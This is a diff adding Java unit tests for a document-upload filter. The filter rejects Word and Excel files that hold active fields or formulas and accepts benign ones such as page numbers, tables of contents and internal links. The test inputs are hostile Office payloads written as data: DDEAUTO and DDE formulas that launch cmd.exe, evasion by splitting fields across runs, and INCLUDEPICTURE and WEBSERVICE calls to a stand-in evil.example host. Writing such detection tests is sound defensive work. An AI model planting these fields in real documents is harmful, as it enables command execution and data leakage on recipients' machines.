@@ -218,6 +218,71 @@ class ActiveContentTests {
                 .isEqualTo("图.docx");
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<r><instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</instrText></r>",
+                "<r><fldChar fldCharType='begin'/></r><r><instrText>D</instrText></r><r><instrText>DE</instrText></r>"
+                        + "<r><instrText>AUTO cmd</instrText></r><r><fldChar fldCharType='end'/></r>",
+                "<r><fldChar fldCharType='begin'/><instrText> ddeauto excel \"x\"</instrText>",
+                "<fldSimple instr=' DDE excel book1 '/>",
+                "<fldSimple instr=' INCLUDEPICTURE \"http://evil.example/x.png\" '/>",
+                "<r><instrText>INCLUDE</instrText></r><r><instrText>PICTURE \\d \"https://evil</instrText></r>"
+                        + "<r><instrText>.example/x\"</instrText></r>",
+                "<fldSimple instr='INCLUDETEXT \"\\\\\\\\evil\\\\share\\\\a.docx\"'/>",
+                "<fldChar fldCharType='begin'/><instrText>INCLUDEPICTURE \"</instrText><fldChar fldCharType='begin'/>"
+                        + "<instrText>QUOTE 104 116 116 112</instrText><fldChar fldCharType='end'/>"
+                        + "<instrText>\"</instrText><fldChar fldCharType='end'/>",
+                "<fldSimple instr='HYPERLINK \"file:///c:/windows/system32/calc.exe\"'/>",
+                "<fldSimple instr='LINK Excel.Sheet.12 \"c:\\\\a.xlsx\"'/>"
+            })
+    @DisplayName("Word 文件里会启动程序、到别处取内容的域，分成几段写的也一样：退回，请另存为 PDF")
+    void activeFields(String body) throws Exception {
+        var closed = body.contains("begin'/><instrText> dde") ? body + "</r>" : body;
+        activeOffice(
+                "OFFICE_ACTIVE", "word/header1.xml", ("<hdr>" + closed + "</hdr>").getBytes(StandardCharsets.UTF_8));
+        activeOffice(
+                "OFFICE_ACTIVE", "word/main.part", ("<hdr>" + closed + "</hdr>").getBytes(StandardCharsets.UTF_16));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<worksheet><f>cmd|'/c calc'!A0</f></worksheet>",
+                "<worksheet><f>1+'cmd'|'/c calc'!'A0'</f></worksheet>",
+                "<workbook><definedName name='a'>cmd|'/c calc'!A0</definedName></workbook>",
+                "<worksheet><f>_xlfn.WEBSERVICE(\"http://evil.example/?\"&amp;A1)</f></worksheet>",
+                "<worksheet><f>HYPERLINK(\"c:\\windows\\system32\\calc.exe\",\"看\")</f></worksheet>",
+                "<worksheet><f>IF(A1,HYPERLINK(\"ca\"&amp;\"lc.exe\",\"看\"))</f></worksheet>",
+                "<externalLink><externalBook/></externalLink>",
+                "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
+            })
+    @DisplayName("Excel 文件里的 DDE、外部链接、取网页内容和指向程序的公式：退回，请另存为 PDF")
+    void activeFormulas(String part) throws Exception {
+        activeOffice("OFFICE_ACTIVE", "xl/part1.xml", part.getBytes(StandardCharsets.UTF_8));
+    }
+
+    @Test
+    @DisplayName("页码、目录、插入的本机图片，求和、文字里有竖线、指向网页和本表的链接：照收")
+    void passiveFieldsAndFormulas() throws Exception {
+        for (var part : List.of(
+                "<hdr><fldSimple instr=' PAGE  \\* MERGEFORMAT '/><instrText>TOC \\o \"1-3\" \\h</instrText></hdr>",
+                "<hdr><instrText>HYPERLINK \\l \"_Toc1\"</instrText></hdr>",
+                "<hdr><instrText>HYPERLINK \"https://www.court.gov.cn/\"</instrText></hdr>",
+                "<hdr><fldSimple instr='INCLUDEPICTURE \"C:\\\\Users\\\\a\\\\1.png\" \\* MERGEFORMATINET'/></hdr>",
+                "<worksheet><f>SUM(A1:A9)&amp;\"甲|乙!\"</f><f>'甲|乙'!A1</f><v>cmd|'/c calc'!A0</v></worksheet>",
+                "<worksheet><f>HYPERLINK(\"#'目录'!A1\",\"返回: 目录\")</f><f>HYPERLINK(A1)</f></worksheet>")) {
+            assertThat(add(
+                                    "表" + part.hashCode() + ".docx",
+                                    office("word/header1.xml", part.getBytes(StandardCharsets.UTF_8)))
+                            .mediaType())
+                    .contains("wordprocessingml");
+        }
+        assertThat(add("旧表.docx", office("xl/drawings/a.vml", "<xml><br></xml>".getBytes(StandardCharsets.UTF_8)))
+                        .mediaType())
+                .contains("wordprocessingml");
+    }
+
     /** What a test does to a fresh document of one page. */
     private interface Edit {
         void to(PDDocument document) throws IOException;
